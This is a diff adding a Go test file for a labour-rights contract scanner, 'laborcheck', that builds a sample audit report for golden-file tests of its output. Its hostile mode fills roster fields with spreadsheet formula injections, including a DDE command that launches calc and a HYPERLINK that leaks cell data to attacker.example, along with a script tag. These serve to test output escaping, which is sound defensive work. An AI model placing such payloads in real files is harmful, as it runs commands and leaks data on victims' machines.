@@ -1,0 +1,244 @@
+package report
+
+import (
+	"bytes"
+	"flag"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+
+	"github.com/laborcheck/laborcheck/internal/contract"
+)
+
+// Use go test ./internal/report -update to create or update the golden files
+// in testdata/, then review their diff like code.
+var update = flag.Bool("update", false, "update golden files")
+
+// golden compares got with testdata/<name>, or rewrites the file with -update.
+func golden(tb testing.TB, name string, got []byte) {
+	tb.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.MkdirAll("testdata", 0o755); err != nil {
+			tb.Fatal(err)
+		}
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			tb.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		tb.Fatalf("read golden file (run go test -update to create it): %v", err)
+	}
+	if !bytes.Equal(got, want) {
+		assert.Equal(tb, string(want), string(got), "output differs from %s (run go test -update and review the diff)", path)
+	}
+}
+
+func str(s string) *string { return &s }
+
+// Hostile strings a roster can carry: formulas for spreadsheet programs,
+// markup for browsers.
+const (
+	hostileFormula = `=cmd|' /C calc'!A0`
+	hostileScript  = `<script>alert(1)</script>`
+	hostileLink    = `=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")`
+)
+
+// sampleReport builds a representative report: three inputs (one
+// unreadable, one workbook with a skipped and a failed sheet), flagged,
+// clear and insufficient contracts, findings of every severity but info with
+// evidence (derived and absent values included), data issues, a rule error,
+// suppliers, rules and the run. With hostile set, roster text carries
+// formula and markup injections in the places a real roster could.
+func sampleReport(tb testing.TB, hostile bool) *Report {
+	tb.Helper()
+	workerC3 := "Ana Reyes"
+	supplierB := "Bright Fields Agro"
+	contractC4 := "C-0004"
+	deptRaw := "USD 450"
+	dataIssueValue := "twelve hundred"
+	workerIDC2 := "E-102"
+	notesHeader := "Remarks"
+	if hostile {
+		workerC3 = hostileFormula
+		supplierB = hostileScript + " Agro"
+		contractC4 = "+1"
+		deptRaw = "@SUM(A1:A9)"
+		dataIssueValue = hostileLink
+		workerIDC2 = "\t=1"
+		notesHeader = "-2+3"
+	}
+	const (
+		acme   = "rosters/acme-garments.xlsx"
+		bright = "rosters/bright-fields.csv"
+		locked = "rosters/locked-2024.xlsx"
+	)
+	sheetRead := Sheet{
+		Name: "Contracts", HeaderRow: 2, Rows: 5,
+		Mapped: []Column{
+			{Column: "A", Header: "Contract No.", Field: "contract_id"},
+			{Column: "B", Header: "Emp No", Field: "worker_id"},
+			{Column: "C", Header: "Name", Field: "worker_name"},
+			{Column: "D", Header: "Supplier", Field: "supplier_name"},
+			{Column: "E", Header: "Recruitment Fee", Field: "recruitment_fee_paid_by_worker"},
+			{Column: "F", Header: "Passport Kept By", Field: "passport_held_by"},
+			{Column: "G", Header: "Basic Salary", Field: "base_wage_monthly"},
+			{Column: "I", Header: "Deposit", Field: "deposit_amount"},
+		},
+		Unmapped: []Column{{Column: "H", Header: notesHeader}},
+		Notes:    []string{"dates in column J read day-first (values over 12 in the first place)"},
+	}
+	r := &Report{
+		Summary: Summary{
+			Contracts: 8, ContractsFlagged: 4, ContractsClear: 2, ContractsInsufficient: 2,
+			Findings:    7,
+			BySeverity:  map[string]int{"critical": 3, "high": 2, "medium": 1, "low": 1},
+			ByIndicator: map[string]int{"debt_bondage": 3, "retention_of_identity_documents": 1, "excessive_overtime": 2, "deception": 1},
+			Inputs:      3, InputsUnreadable: 1, SheetsUnreadable: 1, SheetsSkipped: 1,
+			DataIssues: 2, RuleErrors: 1, FailOn: "high", FindingsAtOrAbove: 5,
+		},
+		Inputs: []Input{
+			{
+				Path: acme, SHA256: "3f1a9c5e0b7d2468ace13579bdf02468ace13579bdf02468ace13579bdf0246a", Format: "xlsx",
+				Sheets: []Sheet{
+					sheetRead,
+					{Name: "Read me", Skipped: "no header row with contract fields in the first 20 rows"},
+					{Name: "Payroll 2023", Error: str("sheet declares 1048576 rows; refusing to read past the 200000-row limit"), Hidden: true},
+				},
+			},
+			{
+				Path: bright, SHA256: "9b8c7d6e5f4a39281706f5e4d3c2b1a09b8c7d6e5f4a39281706f5e4d3c2b1a0", Format: "csv",
+				Notes: []string{"text encoding: windows-1252 (not valid UTF-8)"},
+				Sheets: []Sheet{{
+					Name: "", HeaderRow: 1, Rows: 3,
+					Mapped: []Column{
+						{Column: "1", Header: "Worker ID", Field: "worker_id"},
+						{Column: "2", Header: "Employer", Field: "employer_name"},
+						{Column: "3", Header: "Total Hours per Week", Field: "weekly_hours_total"},
+						{Column: "4", Header: "Contract Language", Field: "contract_language"},
+					},
+				}},
+			},
+			{
+				Path: locked, SHA256: "00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff", Format: "xlsx",
+				Error: str("the workbook is encrypted"),
+				Hint:  "save a copy without a password and scan that copy",
+			},
+		},
+		Contracts: []Contract{
+			{File: acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd", Status: StatusFlagged, Risk: str("critical"), Findings: 3},
+			{File: acme, Sheet: "Contracts", Row: 4, ContractID: "C-0002", WorkerID: workerIDC2, WorkerName: "Bikash Tamang", Supplier: "Acme Garments Ltd", Status: StatusFlagged, Risk: str("high"), Findings: 1},
+			{File: acme, Sheet: "Contracts", Row: 5, ContractID: "C-0003", WorkerID: "E-103", WorkerName: workerC3, Supplier: "Acme Garments Ltd", Status: StatusClear},
+			{File: acme, Sheet: "Contracts", Row: 6, ContractID: contractC4, WorkerID: "E-104", WorkerName: "Mohammad Rahim", Supplier: "Acme Garments Ltd", Status: StatusInsufficient, Findings: 0, Missing: []string{"passport_held_by", "recruitment_fee_paid_by_worker"}},
+			{File: acme, Sheet: "Contracts", Row: 7, ContractID: "C-0005", WorkerID: "E-105", WorkerName: "Siti Aminah", Supplier: "Acme Garments Ltd", Status: StatusClear},
+			{File: bright, Row: 2, ContractID: "BF-17", WorkerID: "W-17", WorkerName: workerC3, Supplier: supplierB, Status: StatusFlagged, Risk: str("critical"), Findings: 2},
+			{File: bright, Row: 3, ContractID: "BF-18", WorkerID: "W-18", Supplier: supplierB, Status: StatusFlagged, Risk: str("low"), Findings: 1, RuleErrors: 1},
+			{File: bright, Row: 4, ContractID: "BF-19", WorkerID: "W-19", Supplier: supplierB, Status: StatusInsufficient, Missing: []string{"weekly_hours_total"}},
+		},
+		Findings: []Finding{
+			{
+				RuleID: "passport-held", Title: "Identity documents held by employer or agent", Indicator: "retention_of_identity_documents", Severity: "critical",
+				Message: "The passport is kept by the employer (HR), not the worker.",
+				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd",
+				Evidence:   map[string]Evidence{"passport_held_by": {Value: "employer", Raw: "HR"}},
+				References: []string{"ILO indicator 7", "RBA Code A1", "FAR 52.222-50"},
+			},
+			{
+				RuleID: "fee-paid", Title: "Worker paid a recruitment fee", Indicator: "debt_bondage", Severity: "high",
+				Message: "The worker paid a recruitment fee of USD 1,200.",
+				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd",
+				Evidence:   map[string]Evidence{"recruitment_fee_paid_by_worker": {Value: 1200.0, Raw: "$1,200"}},
+				References: []string{"ILO Fair Recruitment General Principle 7", "ILO C181 Art. 7"},
+			},
+			{
+				RuleID: "fee-vs-wage", Title: "Worker-paid costs of a month's wage or more", Indicator: "debt_bondage", Severity: "critical",
+				Message: "Worker-paid recruitment costs (USD 1,200) are 2.7 months of the base wage (USD 450).",
+				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd",
+				Evidence: map[string]Evidence{
+					"recruitment_fee_paid_by_worker": {Value: 1200.0, Raw: "$1,200"},
+					"base_wage_monthly":              {Value: 450.0, Raw: deptRaw},
+				},
+				References: []string{},
+			},
+			{
+				RuleID: "deposit", Title: "Worker paid a deposit", Indicator: "debt_bondage", Severity: "high",
+				Message: "The worker paid a security deposit of -2+3 months' wages.",
+				File:    acme, Sheet: "Contracts", Row: 4, ContractID: "C-0002", WorkerID: workerIDC2, WorkerName: "Bikash Tamang", Supplier: "Acme Garments Ltd",
+				Evidence:   map[string]Evidence{"deposit_amount": {Value: 300.0, Raw: "300"}},
+				References: []string{"ETI Base Code 1.2"},
+			},
+			{
+				RuleID: "hours-60", Title: "Weekly hours over 60", Indicator: "excessive_overtime", Severity: "critical",
+				Message: "74 hours a week, over the 72-hour limit.",
+				File:    bright, Row: 2, ContractID: "BF-17", WorkerID: "W-17", WorkerName: workerC3, Supplier: supplierB,
+				Evidence: map[string]Evidence{
+					"regular_hours_per_week":  {Value: 48.0, Raw: "48"},
+					"overtime_hours_per_week": {Value: 26.0, Raw: "26"},
+					"weekly_hours_total":      {Value: 74.0, Derived: true},
+				},
+				References: []string{"RBA Code A3"},
+			},
+			{
+				RuleID: "contract-language", Title: "Contract not in the worker's language", Indicator: "deception", Severity: "medium",
+				Message: "The contract is in English; the worker's first language is Tagalog.",
+				File:    bright, Row: 2, ContractID: "BF-17", WorkerID: "W-17", WorkerName: workerC3, Supplier: supplierB,
+				Evidence: map[string]Evidence{
+					"contract_language":      {Value: "English", Raw: "English"},
+					"worker_native_language": {Value: "Tagalog", Raw: "Tagalog"},
+				},
+				References: []string{"RBA Code A1", "Dhaka Principle 2"},
+			},
+			{
+				RuleID: "regular-48", Title: "Regular hours over 48", Indicator: "excessive_overtime", Severity: "low",
+				Message: "Regular hours are not recorded; overtime is 14 hours a week.",
+				File:    bright, Row: 3, ContractID: "BF-18", WorkerID: "W-18", Supplier: supplierB,
+				Evidence: map[string]Evidence{
+					"regular_hours_per_week":  {Value: nil, Raw: "N/A"},
+					"overtime_hours_per_week": {Value: 14.0, Raw: "14"},
+					"overtime_voluntary":      {Value: true, Raw: "Yes"},
+				},
+				References: nil,
+			},
+		},
+		DataIssues: []contract.DataIssue{
+			{File: acme, Sheet: "Contracts", Row: 6, Column: "E", Field: "recruitment_fee_paid_by_worker", Value: dataIssueValue, Problem: "not an amount of money"},
+			{File: bright, Row: 4, Column: "Total Hours per Week", Field: "weekly_hours_total", Value: "sixty", Problem: "not a number"},
+		},
+		RuleErrors: []RuleError{
+			{RuleID: "pay-interval", File: bright, Row: 3, ContractID: "BF-18", Error: "no such key: wage_payment_interval_days"},
+		},
+		Suppliers: []Supplier{
+			{Name: "Acme Garments Ltd", Contracts: 5, ContractsFlagged: 2, ContractsClear: 2, ContractsInsufficient: 1, Findings: 4, Risk: str("critical"),
+				ByIndicator: map[string]int{"debt_bondage": 3, "retention_of_identity_documents": 1}},
+			{Name: supplierB, Contracts: 3, ContractsFlagged: 2, ContractsInsufficient: 1, Findings: 3, Risk: str("critical"),
+				ByIndicator: map[string]int{"excessive_overtime": 2, "deception": 1}},
+		},
+		Rules: []Rule{
+			{ID: "passport-held", Title: "Identity documents held by employer or agent", Indicator: "retention_of_identity_documents", Severity: "critical", References: []string{"ILO indicator 7", "RBA Code A1", "FAR 52.222-50"}, Source: "rules/documents.yaml:3"},
+			{ID: "fee-paid", Title: "Worker paid a recruitment fee", Indicator: "debt_bondage", Severity: "high", References: []string{"ILO Fair Recruitment General Principle 7", "ILO C181 Art. 7"}, Source: "rules/recruitment.yaml:3"},
+			{ID: "fee-vs-wage", Title: "Worker-paid costs of a month's wage or more", Indicator: "debt_bondage", Severity: "critical", Source: "rules/recruitment.yaml:21"},
+			{ID: "deposit", Title: "Worker paid a deposit", Indicator: "debt_bondage", Severity: "high", References: []string{"ETI Base Code 1.2"}, Source: "rules/recruitment.yaml:40"},
+			{ID: "hours-60", Title: "Weekly hours over 60", Indicator: "excessive_overtime", Severity: "high", References: []string{"RBA Code A3"}, Source: "rules/hours.yaml:3"},
+			{ID: "regular-48", Title: "Regular hours over 48", Indicator: "excessive_overtime", Severity: "medium", References: []string{"ILO C1", "ILO C30"}, Source: "rules/hours.yaml:19"},
+			{ID: "contract-language", Title: "Contract not in the worker's language", Indicator: "deception", Severity: "high", References: []string{"RBA Code A1", "Dhaka Principle 2"}, Source: "rules/contract.yaml:12"},
+			{ID: "pay-interval", Title: "Wages paid less often than monthly", Indicator: "withholding_of_wages", Severity: "high", References: []string{"ILO R85 §4"}, Source: "rules/wages.yaml:8"},
+		},
+		Run: Run{
+			Version:     "0.4.0",
+			StartedAt:   time.Date(2024, 5, 2, 8, 15, 0, 0, time.FixedZone("CEST", 2*3600)),
+			RulesDigest: "5d41402abc4b2a76b9719d911017c592ae1c8b1d0e6f7a8b9c0d1e2f3a4b5c6d",
+			RuleFiles: []File{
+				{Path: "(built-in)/documents.yaml", SHA256: "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"},
+				{Path: "rules/local-overrides.yaml", SHA256: "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"},
+			},
+			Tables:  []File{{Path: "tables/minimum-wages.csv", SHA256: "cafebabecafebabecafebabecafebabecafebabecafebabecafebabecafebabe"}},
+			Options: Options{FailOn: "high", AsOf: "2024-05-01", MapFile: "maps/acme.yaml"},
+		},
+	}
+	return r
+}
